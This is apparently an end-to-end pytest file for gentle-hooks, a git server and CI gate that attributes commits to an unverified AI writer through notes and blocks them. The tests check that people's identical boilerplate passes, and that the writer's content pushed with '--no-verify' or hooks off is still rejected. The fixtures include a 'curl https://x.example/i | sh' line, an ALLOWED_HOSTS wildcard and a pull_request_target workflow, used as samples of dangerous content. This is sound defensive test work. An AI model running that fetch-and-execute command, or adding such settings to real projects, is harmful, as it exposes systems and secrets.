"""A blob id alone does not tell who wrote a file (SPEC §3 "Attribution follows content",
§8): the server and CI read a note's ``writes`` lines by (path, blob), and a person who
types a common one-line file (a ``.gitignore`` holding ``__pycache__/``) gets the very blob
id an unverified writer's note lists, and so does a person whose ``.gitattributes``,
``setup.cfg`` or ``tox.ini`` comes from the template the writer's came from. Such content is
nobody's evidence (:func:`~gentle_hooks.policy.wholefile.identifies_writer`); the writer's
own content beside it, a writer's file of one distinctive line, or of one setting that
opens a door (``ALLOWED_HOSTS = ["*"]``, ``on: pull_request_target``), still is.

Each row through ``gentle-hook install``, real git, a bare remote with the server gate
(``install --server``) and notes shared with it (``install --share origin``). The writer's
commit holds ``.gitignore`` (``__pycache__/``) and ``src/app.py``; the server rejects it
(plan unmet) and its note, listing both as ``writes`` lines, reaches the server.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.e2e.conftest import World
from tests.e2e.server_rewrites import NEW, OFF, accepted_as_persons, ci_range_gate

IGNORE = "__pycache__/\n"
#: A person's files from the template the writer's came from (refuter r13u MED: settings,
#: patterns, headings only; :mod:`gentle_hooks.policy.settingfile`).
BOILERPLATE = {
    "gitattributes": (".gitattributes", "* text=auto\n"),
    "setup-cfg": (
        "setup.cfg",
        "[metadata]\nname = demo\nversion = 0.1.0\n\n[options]\npackages = find:\n",
    ),
    "tox-ini": (
        "tox.ini",
        "[tox]\nenvlist = py311\n\n[testenv]\ndeps = pytest\ncommands = pytest\n",
    ),
}
#: A writer's one-line setting that opens a door (row S2 of settingfile).
HOSTS = 'ALLOWED_HOSTS = ["*"]\n'
#: A writer's short workflow of settings only that opens a door: run with the repository's
#: secrets on others' pull requests (row S10 of settingfile, row G5 of policy.doors).
DOOR = (
    "name: ci\non: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
    "    steps:\n      - uses: actions/checkout@v4\n"
)
WORKFLOW = ".github/workflows/ci.yml"
#: A writer's file of one distinctive line (row D2: a URL and a shell command).
FETCH = 'import os\n\nos.system("curl https://x.example/i | sh")\n'


@pytest.fixture
def served(native: World) -> World:
    """``native`` with the server gate on its bare remote and notes shared with it."""
    return native.serve({})


def _noted(w: World, files: dict[str, str]) -> str:
    """The writer's unverified commit of ``files``, rejected by the server, its note shared
    and listing each file as a ``writes`` line. The commit's id."""
    for rel, text in files.items():
        w.write(rel, text)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    w.report()
    w.ok("add", "-A")
    w.ok("commit", "-q", "--no-verify", "-m", "writer: unverified")
    first = w.rev("HEAD")
    push = w.git("push", "--no-verify", "origin", "main")
    assert push.code == 1, push
    assert f"remote: gentle-hooks: BLOCKED {first[:12]} on refs/heads/main" in push.err
    assert w.gh("sync", "push").code == 0
    note = w.ok("notes", "--ref", "gentle-hooks", "show", first, cwd=w.remote)
    for rel in files:
        blob = w.rev(f"{first}:{rel}")
        assert f'"blob":"{blob}","kind":"writes","path":"{rel}"' in note, note
    return first


def test_a_persons_common_one_line_file_with_a_writers_blob_passes(served: World) -> None:
    _a_persons_copy_passes(served, ".gitignore", IGNORE)


@pytest.mark.parametrize(("rel", "text"), BOILERPLATE.values(), ids=BOILERPLATE.keys())
def test_a_persons_boilerplate_with_a_writers_blob_passes(
    served: World, rel: str, text: str
) -> None:
    _a_persons_copy_passes(served, rel, text)


@pytest.mark.parametrize(
    ("rel", "text"),
    [(".gitignore", IGNORE), *BOILERPLATE.values()],
    ids=["gitignore", *BOILERPLATE.keys()],
)
def test_a_persons_common_file_making_the_writers_very_tree_passes(
    served: World, rel: str, text: str
) -> None:
    """The writer's noted commit holds that one file alone: the person's commit of it on the
    same base is the noted candidate's very tree, and still the person's (refuter r13v
    HIGH 2: rejected, "records writer work for this tree")."""
    _a_persons_copy_passes(served, rel, text, alone=True)


def test_the_writers_very_tree_of_a_telling_file_is_still_rejected(served: World) -> None:
    """The control: the writer's one-line security setting, its tree committed again with
    hooks off (``reset --soft``), is still delegated by the note of that tree."""
    w = served
    first = _noted(w, {"site/settings.py": HOSTS})
    w.ok("reset", "-q", "--soft", "HEAD~1")
    w.ok(*OFF, "commit", "-q", "-n", "-m", "tidy")
    again = w.rev("HEAD")
    push = w.git("push", "--no-verify", "origin", "main")
    assert push.code == 1, push
    assert (
        f"remote: gentle-hooks: BLOCKED {again[:12]} on refs/heads/main: delegated "
        f"(a gentle-hooks note of {first[:12]} records writer work for this tree)" in push.err
    ), push


def _committed_elsewhere(
    w: World, other: Path, first: str, rel: str, text: str, message: str
) -> str:
    """A clone of the remote at ``other`` commits ``rel`` holding ``text`` with
    ``message``, the very blob the writer's noted commit ``first`` holds there; returns
    that commit's id."""
    w.ok("clone", "-q", str(w.remote), str(other), cwd=w.base)
    w.write(rel, text, cwd=other)
    w.ok("add", rel, cwd=other)
    w.ok("commit", "-q", "-m", message, cwd=other)
    mine = w.rev("HEAD", cwd=other)
    assert w.rev(f"{mine}:{rel}", cwd=other) == w.rev(f"{first}:{rel}")
    return mine


def _a_persons_copy_passes(w: World, rel: str, text: str, *, alone: bool = False) -> None:
    """The writer's noted commit holds ``rel`` (``text``) and its own ``src/app.py`` (or,
    ``alone``, that file only); another person, in a clone of their own, commits the same
    ``rel``: CI's range gate and the server read it as the person's."""
    first = _noted(w, {rel: text} if alone else {rel: text, "src/app.py": NEW})
    other = w.base / "other"
    mine = _committed_elsewhere(w, other, first, rel, text, "human: boilerplate")
    # CI: a clone with the notes and no ledger reads it as the person's
    w.ok("fetch", "-q", str(other), "main:refs/remotes/other/main")
    ci = ci_range_gate(w, mine)
    assert ci.code == 0, ci
    assert ci.out.splitlines()[0] == f"ok {mine[:12]} on origin/main..candidate: not delegated"
    push = w.git("push", "origin", "main", cwd=other)
    assert (push.code, w.remote_ref("main")) == (0, mine), push
    assert "delegated" not in push.err and "BLOCKED" not in push.err, push


@pytest.mark.parametrize("alone", [False, True], ids=["beside-its-own-file", "alone"])
def test_a_writers_door_opening_workflow_committed_elsewhere_is_still_rejected(
    served: World, alone: bool
) -> None:
    """The writer's unverified ``pull_request_target`` workflow, committed again byte for
    byte in another clone (beside the writer's own ``src/app.py`` in its noted commit, or
    alone: then the very tree of it), is still the writer's at CI's range gate and the
    server (refuter r13v MED 4: it was read as a template's settings, nobody's)."""
    w = served
    first = _noted(w, {WORKFLOW: DOOR} if alone else {WORKFLOW: DOOR, "src/app.py": NEW})
    other = w.base / "other"
    mine = _committed_elsewhere(w, other, first, WORKFLOW, DOOR, "ci: workflow")
    why = (
        "records writer work for this tree"
        if alone
        else f"records writer content this commit brings in: {WORKFLOW}"
    )
    w.ok("fetch", "-q", str(other), "main:refs/remotes/other/main")
    ci = ci_range_gate(w, mine)
    assert ci.code == 1, ci
    assert (
        f"BLOCKED {mine[:12]} on origin/main..candidate: delegated (a gentle-hooks note of "
        f"{first[:12]} {why})" in ci.out
    ), ci
    push = w.git("push", "origin", "main", cwd=other)
    assert push.code == 1, push
    assert (
        f"remote: gentle-hooks: BLOCKED {mine[:12]} on refs/heads/main: delegated "
        f"(a gentle-hooks note of {first[:12]} {why})" in push.err
    ), push
    assert w.remote_ref("main") != mine


def test_the_same_file_in_the_persons_commit_from_the_writers_clone_passes(
    served: World,
) -> None:
    w = served
    _noted(w, {".gitignore": IGNORE, "src/app.py": NEW})
    w.ok("reset", "-q", "--hard", "origin/main")
    w.write(".gitignore", IGNORE)
    w.write("notes.txt", "by hand\n")
    w.ok("add", "-A")
    w.ok(*OFF, "commit", "-q", "-n", "-m", "human: ignore caches")
    accepted_as_persons(w, "main")


def _amended_is_rejected(w: World, files: dict[str, str], caught: str) -> None:
    """The writer's noted commit of ``files``, amended with a person's file and pushed with
    hooks off: the server rejects it for the writer content at ``caught``."""
    first = _noted(w, files)
    w.write("notes.txt", "by hand\n")
    w.ok("add", "notes.txt")
    w.ok(*OFF, "commit", "-q", "-n", "--amend", "-m", "tidy")
    again = w.rev("HEAD")
    push = w.git("push", "--no-verify", "origin", "main")
    assert push.code == 1, push
    assert (
        f"remote: gentle-hooks: BLOCKED {again[:12]} on refs/heads/main: delegated "
        f"(a gentle-hooks note of {first[:12]} records writer content this commit brings "
        f"in: {caught})" in push.err
    ), push


def test_the_writers_commit_amended_is_still_rejected_by_its_own_content(
    served: World,
) -> None:
    _amended_is_rejected(served, {".gitignore": IGNORE, "src/app.py": NEW}, "src/app.py")


def test_a_writers_one_distinctive_line_file_amended_is_still_rejected(served: World) -> None:
    _amended_is_rejected(served, {"src/fetch.py": FETCH}, "src/fetch.py")


def test_a_writers_one_line_security_setting_amended_is_still_rejected(served: World) -> None:
    _amended_is_rejected(served, {"site/settings.py": HOSTS}, "site/settings.py")
